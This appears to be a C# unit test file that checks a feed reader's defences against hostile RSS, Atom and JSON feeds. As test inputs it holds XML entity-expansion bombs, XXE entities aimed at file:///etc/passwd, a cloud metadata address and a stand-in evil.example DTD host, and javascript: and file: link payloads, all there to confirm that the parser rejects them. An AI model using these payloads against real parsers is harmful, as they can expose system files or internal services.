using System.Text;
using AllianceBot.Items;

namespace AllianceBot.Tests.Items;

/// <summary>HOSTILE.md A01 to A22, as far as the reader decides them. How much they cost is measured by the benchmark hostile.</summary>
public sealed class HostileFeedTests
{
    [Fact]
    public void A01_An_entity_that_refers_to_others_is_not_expanded()
    {
        var reading = Reading.Of("<!DOCTYPE rss [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>" + Reading.Rss("<item><title>x &c; &b;</title></item>"));
        Assert.Equal(["x &c; &b;"], Reading.Titles(reading));
    }

    [Fact]
    public void A02_A_long_entity_used_a_thousand_times_is_not_expanded()
    {
        var reading = Reading.Of($"<!DOCTYPE rss [<!ENTITY a \"{new string('x', 1_000_000)}\">]>" + Reading.Rss($"<item><description>{string.Concat(Enumerable.Repeat("&a;", 1000))}</description></item>"));
        Assert.Equal(3000, Assert.Single(reading.Document!.Entries).Summary!.Value.Value.Length);
    }

    [Fact]
    public void A02_What_short_entities_add_to_a_document_is_bounded()
    {
        var reading = Reading.Of($"<!DOCTYPE rss [<!ENTITY a \"{new string('x', 200)}\">]>" + Reading.Rss($"<item><description>{string.Concat(Enumerable.Repeat("&a;", 100_000))}</description></item>"));
        Assert.InRange(Assert.Single(reading.Document!.Entries).Summary!.Value.Value.Length, 300_000, 400_000);
    }

    [Fact]
    public void A_short_text_that_the_document_declares_is_used()
    {
        var reading = Reading.Of("<!DOCTYPE rss [<!ENTITY site \"tag:news.example,\">]>" + Reading.Rss("<item><guid>&site;1</guid></item>"));
        Assert.Equal("tag:news.example,1", Assert.Single(reading.Document!.Entries).Id);
    }

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")] // A03
    [InlineData("<!DOCTYPE rss [<!ENTITY x SYSTEM \"http://169.254.169.254/\">]>")] // A04
    [InlineData("<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>")] // A05
    [InlineData("<!DOCTYPE rss SYSTEM \"http://evil.example/x.dtd\">")] // A05
    public void A03_A04_A05_Nothing_outside_the_document_is_looked_at(string doctype)
    {
        // The reader has no way to open a file or a connection: it takes memory and gives records.
        var reading = Reading.Of(doctype + Reading.Rss("<item><title>t &x;</title></item>"));
        Assert.Equal(["t &x;"], Reading.Titles(reading));
    }

    [Fact]
    public void A06_A_feed_with_the_doctype_of_rss_091_is_read()
    {
        var reading = Reading.Of("<?xml version=\"1.0\"?><!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">" + Reading.Rss(Reading.Items(1)));
        Assert.Null(reading.Problem);
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Fact]
    public void A07_Html_entities_without_a_dtd_are_read()
    {
        var entry = Reading.RssItem("<title>Caf&eacute;&nbsp;&ndash; &hearts; &#8220;x&#x201D; &nosuch; &copy=1 &AMP;</title>");
        Assert.Equal("Café – ♥ “x” &nosuch; &copy=1 &", entry.Title);
    }

    [Theory]
    [InlineData("<rss><channel><item><title>1</title></item><image>{0}")]
    [InlineData("<rss><channel><item><title>1</title></item><item><description>{0}")]
    [InlineData("<rss><channel><item><title>1</title></item><item>{0}")]
    public void A08_A_hundred_thousand_nested_tags_are_refused_and_what_came_before_is_kept(string template)
    {
        var reading = Reading.Of(template.Replace("{0}", string.Concat(Enumerable.Repeat("<a>", 100_000)), StringComparison.Ordinal));
        Assert.Equal(FeedProblemCode.TooDeep, reading.Problem!.Code);
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Fact]
    public void A08_Nested_tags_inside_escaped_text_cost_no_more_than_text()
    {
        var entry = Reading.RssItem($"<description><![CDATA[{string.Concat(Enumerable.Repeat("<div>", 100_000))}deep]]></description>");
        Assert.Equal("deep", entry.SummaryText);
    }

    [Fact]
    public void A09_A_tag_with_too_many_attributes_is_refused()
    {
        var attributes = string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}='1'"));
        var reading = Reading.Of(Reading.Rss($"{Reading.Items(1)}<item><enclosure {attributes}/></item>"));
        Assert.Equal(FeedProblemCode.TooLarge, reading.Problem!.Code);
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Fact]
    public void A10_A_tag_with_too_many_namespaces_is_refused()
    {
        var namespaces = string.Join(' ', Enumerable.Range(0, 200).Select(i => $"xmlns:n{i}='urn:{i}'"));
        Assert.Equal(FeedProblemCode.TooLarge, Reading.Of(Reading.Rss($"<item {namespaces}><title>1</title></item>")).Problem!.Code);
        namespaces = string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"xmlns:n{i}='urn:{i}'"));
        Assert.Equal(FeedProblemCode.TooLarge, Reading.Of($"<rss {namespaces}><channel>{Reading.Items(1)}</channel></rss>").Problem!.Code);
    }

    [Fact]
    public void A11_A_body_over_the_cap_is_read_up_to_it()
    {
        var reading = Reading.Of(Reading.Rss(Reading.Items(500)), FeedReaderLimits.Default with { Bytes = 2_000 });
        Assert.Equal(FeedProblemCode.TooLarge, reading.Problem!.Code);
        Assert.InRange(reading.Document!.Entries.Count, 20, 60);
    }

    [Fact]
    public void A12_Items_past_the_cap_are_not_looked_at()
    {
        var reading = Reading.Of(Reading.Rss(Reading.Items(20_000)));
        Assert.Equal(FeedProblemCode.TooLarge, reading.Problem!.Code);
        Assert.Equal(1000, reading.Document!.Entries.Count);
        Assert.Equal("1000", reading.Document.Entries[^1].Title);
    }

    [Fact]
    public void A12_Exactly_as_many_items_as_the_cap_are_no_problem() => Assert.Null(Reading.Of(Reading.Rss(Reading.Items(1000))).Problem);

    [Fact]
    public void A13_One_text_that_fills_the_body_is_cut_off_at_the_cap()
    {
        var reading = Reading.Of($"<rss><channel><item><title>1</title></item><item><description>{new string('x', 3_000_000)}", FeedReaderLimits.Default with { Bytes = 1_000_000 });
        Assert.Equal(FeedProblemCode.TooLarge, reading.Problem!.Code);
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Fact]
    public void A14_A_huge_title_is_cut_between_graphemes()
    {
        const string Family = "👨‍👩‍👧‍👦";
        var title = Reading.RssItem($"<title>{string.Concat(Enumerable.Repeat(Family, 300_000))}</title>").Title;
        Assert.InRange(title.Length, 950, 1000);
        Assert.Equal(0, title.Length % Family.Length);
    }

    [Fact]
    public void A14_A_title_that_is_one_endless_grapheme_is_cut_all_the_same() =>
        Assert.Equal(1000, Reading.RssItem($"<title>a{new string('\u0301', 100_000)}</title>").Title.Length);

    [Fact]
    public void A15_Control_characters_are_dropped()
    {
        var entry = Reading.RssItem("<title>a\0b\u0001c\uFFFEd&#8;e&#x0;f&#xFFFF;g\u0007</title><description><![CDATA[x\0\u0008y]]></description><link>https://news.example/\u0001a\0</link>");
        Assert.Equal(("abcdefg", "xy", "https://news.example/a"), (entry.Title, entry.SummaryText, entry.Link));
    }

    [Fact]
    public void A16_Halves_of_characters_and_overlong_bytes_become_replacement_characters()
    {
        byte[] body = [.. "<rss><channel><item><title>a"u8, 0xC0, 0x80, .. "b"u8, 0xED, 0xA0, 0x80, .. "c&#xD800;d&#x110000;</title></item></channel></rss>"u8];
        Assert.Equal(["a\uFFFDb\uFFFDc\uFFFDd\uFFFD"], Reading.Titles(Reading.Of(body)));
        Assert.Equal(["a\uFFFDb"], Reading.Titles(Reading.Of(Reading.Json("{\"title\":\"a\\ud800b\"}"))));
    }

    [Fact]
    public void A16_Any_number_of_byte_order_marks_is_one() => Assert.Equal(["1"], Reading.Titles(Reading.Of("\uFEFF\uFEFF\uFEFF" + Reading.Rss(Reading.Items(1)))));

    [Theory]
    [InlineData("<item><title>3</title>")]
    [InlineData("<item><title>3")]
    [InlineData("<item><title>3</ti")]
    [InlineData("<item><title><![CDATA[3")]
    [InlineData("<item><link href=\"https://news.ex")]
    [InlineData("<!-- never ends")]
    [InlineData("")]
    public void A17_Items_before_a_cut_are_kept_and_the_cut_one_is_not(string tail)
    {
        var reading = Reading.Of("<rss><channel>" + Reading.Items(2) + tail);
        Assert.Equal(FeedProblemCode.Truncated, reading.Problem!.Code);
        Assert.Equal(["1", "2"], Reading.Titles(reading));
    }

    [Fact]
    public void A17_Every_prefix_of_a_feed_gives_a_prefix_of_its_entries()
    {
        foreach (var document in new[] { Reading.Rss(Reading.Items(3)), Reading.Atom("<entry><title>1</title></entry><entry><title>2</title></entry>"), Reading.Json("{\"title\":\"1\"},{\"title\":\"2\"}") })
        {
            for (var length = 1; length < document.Length; length++)
            {
                var reading = Reading.Of(document[..length]);
                if (reading.Document is { } feed)
                    Assert.Equal(Enumerable.Range(1, feed.Entries.Count).Select(i => $"{i}"), Reading.Titles(reading));
                else
                    Assert.NotNull(reading.Problem);
            }
        }
    }

    public static TheoryData<byte[], string> NoFeeds => new()
    {
        { "<!doctype html><html><head><title>x</title></head><body><p>x</body></html>"u8.ToArray(), nameof(FeedProblemCode.Html) },
        { "\n<HTML><BODY>404</BODY></HTML>"u8.ToArray(), nameof(FeedProblemCode.Html) },
        { "{\"error\":\"no\"}"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "[1,2]"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "%PDF-1.7 \u0001\u0002<<>>"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { [0x50, 0x4B, 3, 4, 0, 0, 0, 0, 255, 254, 1], nameof(FeedProblemCode.NotAFeed) },
        { [], nameof(FeedProblemCode.Empty) },
        { " \r\n\t"u8.ToArray(), nameof(FeedProblemCode.Empty) },
        { "x"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "<"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "<opml version=\"2.0\"><head><title>x</title></head><body/></opml>"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>x</loc></url></urlset>"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
        { "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description/></rdf:RDF>"u8.ToArray(), nameof(FeedProblemCode.NotAFeed) },
    };

    [Theory]
    [MemberData(nameof(NoFeeds))]
    public void A18_What_is_no_feed_is_told_by_a_typed_code(byte[] body, string code)
    {
        var reading = Reading.Of(body);
        Assert.Null(reading.Document);
        Assert.Equal(code, reading.Problem!.Code.ToString());
        Assert.EndsWith(".", reading.Problem.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A19_Json_nested_too_deeply_is_refused()
    {
        var reading = Reading.Of(Reading.Json($"{{\"title\":\"1\"}},{{\"x\":{new string('[', 10_000)}{new string(']', 10_000)}}}"));
        Assert.Equal(FeedProblemCode.TooDeep, reading.Problem!.Code);
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Theory]
    [InlineData("{\"id\":1e400,\"id\":2,\"title\":\"1\",\"title\":\"2\"}")]
    [InlineData("{\"id\":-0,\"title\":\"1\",\"url\":5,\"tags\":{},\"attachments\":[[]],\"authors\":\"x\",\"image\":null}")]
    [InlineData("{\"title\":\"1\",\"date_published\":17,\"content_html\":{\"a\":1},\"authors\":[5,{\"name\":{}}],\"attachments\":[{\"url\":[1]}]}")]
    public void A20_Odd_json_is_read(string item) => Assert.Equal(["1"], Reading.Titles(Reading.Of(Reading.Json(item))));

    [Fact]
    public void A20_A_number_of_a_hundred_thousand_digits_is_no_long_id() =>
        Assert.Equal(64, Assert.Single(Reading.Of(Reading.Json($"{{\"id\":{new string('9', 100_000)}}}")).Document!.Entries).Id!.Length);

    [Theory]
    [InlineData("{\"title\":\"1\"},{\"title\":2 3}]}", nameof(FeedProblemCode.Malformed))]
    [InlineData("{\"title\":\"1\"},{\"titl", nameof(FeedProblemCode.Truncated))]
    public void A20_Items_before_a_defect_in_json_are_kept(string items, string code)
    {
        var reading = Reading.Of("{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[" + items);
        Assert.Equal(code, reading.Problem!.Code.ToString());
        Assert.Equal(["1"], Reading.Titles(reading));
    }

    [Theory]
    [InlineData("<![CDATA[a]]>b<![CDATA[c]]>", "abc")]
    [InlineData("<![CDATA[a]]]]><![CDATA[>b]]>", "a]]>b")]
    [InlineData("a ]]> b", "a ]]> b")]
    [InlineData("a<!-- <title>no</title> -->b", "ab")]
    [InlineData("a<?php echo 1 ?>b", "ab")]
    [InlineData("ab<!-- c -->", "ab")]
    [InlineData("<!-- c -->", "")]
    public void A21_Tricks_with_cdata_and_comments_give_text_only(string inside, string title) => Assert.Equal(title, Reading.RssItem($"<title>{inside}</title>").Title);

    [Fact]
    public void A21_A_comment_of_five_megabytes_is_passed_over() =>
        Assert.Equal(["1"], Reading.Titles(Reading.Of(Reading.Rss($"<!-- {new string('-', 5_000_000)} -->{Reading.Items(1)}"))));

    [Theory]
    [InlineData("//evil.example/x", null)]
    [InlineData("\\\\evil.example\\x", null)]
    [InlineData("javascript:alert(1)", null)]
    [InlineData("JaVaScRiPt:alert(1)", null)]
    [InlineData(" java\nscript:alert(1)", null)]
    [InlineData("data:text/html,x", null)]
    [InlineData("file:///etc/passwd", null)]
    [InlineData("vbscript:x", null)]
    [InlineData("discord://x", null)]
    [InlineData("http:", null)]
    [InlineData("https://", null)]
    [InlineData("https://news\uFFFD.example/x", null)]
    [InlineData("//news.example/x", "https://news.example/x")]
    [InlineData("/x y", "https://news.example/x%20y")]
    [InlineData("x?a=1&amp;b=2", "https://news.example/feeds/x?a=1&b=2")]
    [InlineData(" HTTPS://news.example/x\n", "HTTPS://news.example/x")]
    public void A22_Only_links_to_web_pages_are_kept(string link, string? expected)
    {
        Assert.Equal(expected, Reading.RssItem($"<link>{link}</link>").Link);
        Assert.Equal(expected, Reading.AtomEntry($"<link href=\"{link}\"/>").Link);
    }

    [Theory]
    [InlineData("javascript:x/", "https://news.example/feeds/a")]
    [InlineData("file:///x/", "https://news.example/feeds/a")]
    [InlineData("https://other.example/b/", "https://other.example/b/a")]
    public void A22_Xml_base_moves_links_within_the_web_only(string xmlBase, string expected) =>
        Assert.Equal(expected, Reading.AtomEntry($"<link xml:base=\"{xmlBase}\" href=\"a\"/>").Link);

    [Fact]
    public void A22_Pictures_and_enclosures_are_web_addresses_too()
    {
        var entry = Reading.RssItem("<enclosure url='file:///a' type='image/png'/><enclosure url='data:image/png,x' type='image/png'/><media:thumbnail url='javascript:x'/>");
        Assert.Null(entry.Image);
        Assert.Empty(entry.Enclosures);
    }

    [Fact]
    public void A23_An_id_of_a_megabyte_makes_a_short_key()
    {
        var entry = Reading.RssItem($"<guid>{new string('x', 1_000_000)}</guid>");
        Assert.Equal(22, ItemIdentity.Keys(entry, ItemIdentityPolicy.Id).Primary.Length);
    }

    [Fact]
    public void Reading_takes_time_in_proportion_to_the_document()
    {
        // Each of these once made some search start over at every character.
        foreach (var piece in new[] { "<a b=\"", "<a b='>", "<!a[", "<?a ", "<![CDATA[", "<!--", "</", "&", "&#", "&a;", "<item><x:", "<item><description>", "<iframe>", "<a\"", "]]>", "<object><" })
        {
            var body = Encoding.UTF8.GetBytes("<rss><channel><item><description><![CDATA[" + string.Concat(Enumerable.Repeat(piece, 1_000_000 / piece.Length)));
            var reading = Reading.Of(body);
            Assert.NotNull(reading.Problem);
            body = Encoding.UTF8.GetBytes("<rss><channel>" + string.Concat(Enumerable.Repeat(piece, 1_000_000 / piece.Length)));
            Assert.NotNull(Reading.Of(body).Document);
            Assert.NotNull(HtmlText.ToPlainText(string.Concat(Enumerable.Repeat(piece, 1_000_000 / piece.Length))));
        }
    }
}
